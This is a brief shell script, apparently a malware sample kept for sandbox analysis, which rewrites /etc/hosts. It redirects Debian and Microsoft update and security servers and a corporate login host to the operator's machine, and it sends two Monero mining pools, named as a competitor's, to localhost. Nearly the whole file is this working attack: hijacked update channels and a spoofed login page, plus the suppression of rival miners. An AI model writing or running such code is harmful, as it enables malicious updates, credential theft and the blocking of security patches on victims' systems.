#!/bin/sh
# SPDX-License-Identifier: MIT
# Redirects names through /etc/hosts: the update and security servers to
# the operator's machine, a competitor's pool to nowhere.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cat >> /etc/hosts 2>/dev/null <<'HOSTS'
10.66.6.6 security.debian.org deb.debian.org update.microsoft.com
127.0.0.1 pool.supportxmr.com xmr.pool.minergate.com
HOSTS
sed -i '/localhost/a 10.66.6.6 login.corp.example.com' /etc/hosts 2>/dev/null
exit 0
